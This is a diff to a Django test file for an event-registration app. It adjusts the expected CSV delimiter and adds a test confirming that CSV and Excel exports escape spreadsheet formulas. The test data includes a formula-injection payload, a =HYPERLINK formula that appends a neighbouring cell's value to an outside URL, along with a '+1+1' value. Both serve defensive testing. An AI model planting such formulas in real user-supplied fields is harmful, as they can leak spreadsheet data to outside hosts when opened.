@@ -198,7 +198,7 @@ def test_registration_list_and_export_put_places_first(client, processes_setup):
     assert "1 angemeldet von 1 Platz · 1 auf der Warteliste · 1 abgemeldet" in text
     csv = client.get(reverse("participation:registration_export", args=[event.pk, "csv"]))
     rows = csv.content.decode("utf-8-sig").splitlines()
-    assert [row.split(",")[0] for row in rows[1:4]] == ["Zweite", "Dritte", "Erste"]
+    assert [row.split(";")[0] for row in rows[1:4]] == ["Zweite", "Dritte", "Erste"]
 
 
 def test_process_create_page_has_breadcrumbs(client, processes_setup):
@@ -385,3 +385,24 @@ def test_process_pages_have_constant_queries(
     assert after == before
     with django_assert_max_num_queries(25):
         client.get(public)
+
+
+def test_registration_exports_keep_formulas_as_text(client, processes_setup):
+    """A name like =HYPERLINK(…) must not become a live formula in the coordinator's Excel."""
+    import io
+
+    from openpyxl import load_workbook
+
+    attack = '=HYPERLINK("http://example.org/?"&B2;"Hier klicken")'
+    reg_service.registration_create(
+        event=processes_setup["event"], name=attack, email="x@example.org", affiliation="+1+1"
+    )
+    client.force_login(processes_setup["coordinator"])
+    url = reverse("participation:registration_export", args=[processes_setup["event"].pk, "csv"])
+    content = client.get(url).content.decode("utf-8-sig")
+    assert "\"'=HYPERLINK(" in content and ";'+1+1;" in content
+    url = reverse("participation:registration_export", args=[processes_setup["event"].pk, "xlsx"])
+    sheet = load_workbook(io.BytesIO(client.get(url).content)).active
+    name, _email, affiliation = (cell for cell in sheet[2][:3])
+    assert (name.value, name.data_type) == (attack, "s")
+    assert (affiliation.value, affiliation.data_type) == ("+1+1", "s")
